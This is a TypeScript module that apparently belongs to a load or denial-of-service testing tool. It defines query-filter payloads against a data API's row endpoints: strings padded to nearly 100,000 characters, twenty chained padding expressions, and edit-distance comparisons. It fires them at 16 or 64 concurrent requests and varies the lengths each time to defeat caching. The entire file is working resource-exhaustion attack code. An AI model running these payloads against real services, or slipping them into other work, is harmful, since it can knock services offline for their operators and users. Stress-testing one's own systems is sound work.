import { ask, type Tally } from './ask.ts'
import { atOnce, inLanes, type Attack } from './attack.ts'
import type { Target } from './target.ts'

const SECONDS = 90
const LOOP_SECONDS = 20

const ofWhere = (entity: string, where: string): string =>
  `${entity}/rows?pageSize=65&where=${encodeURIComponent(where)}`

async function page({ attacker }: Target, url: string, statuses: Tally, signal: AbortSignal): Promise<void> {
  const { outcome } = await ask({ url, headers: attacker.quality, seconds: SECONDS, signal })
  statuses.add(outcome)
}

/** Long texts joined, each of another length: none of them is made once for all. */
const joined = (count: number): string =>
  `${Array.from({ length: count }, (_, index) => `LPAD(weather, ${99_999 - index}, "x")`).join(' || ')} = "y"`

/** Other lengths each time: no count is remembered. */
const padded = (turn: number): string => {
  const length = 99_999 - (turn % 1000)
  return `LPAD(Name, ${length}, "x") = RPAD(Name, ${length}, "x")`
}

/** The same with texts that are just short enough to be accepted. */
const accepted = (turn: number): string => {
  const length = 7000 - (turn % 1000)
  return `LPAD(Name, ${length}, "x") = RPAD(Name, ${length}, "x")`
}

const distant = (turn: number): string => `EDIT_DISTANCE(Name, UPPER(Name)) > ${1 + (turn % 1000)}`

/** Conditions that take memory or time. */
export const conditions: readonly Attack[] = [
  ...[20, 10].map((count): Attack => ({
    name: `where-${count}`,
    run: (target, statuses, signal) => page(target, ofWhere(target.weather, joined(count)), statuses, signal),
  })),
  ...[
    { name: 'pads-16', condition: padded },
    { name: 'accepted-16', condition: accepted },
  ].map(({ name, condition }): Attack => ({
    name,
    run: (target, statuses, signal) =>
      atOnce(16, (turn) => page(target, ofWhere(target.cities, condition(turn)), statuses, signal)),
  })),
  ...[
    { name: 'pads-64', condition: padded },
    { name: 'accepted-64', condition: accepted },
    { name: 'distances-64', condition: distant },
  ].map(({ name, condition }): Attack => ({
    name,
    run: (target, statuses, signal) =>
      inLanes(64, LOOP_SECONDS, signal, (turn, over) =>
        page(target, ofWhere(target.cities, condition(turn)), statuses, over),
      ),
  })),
]
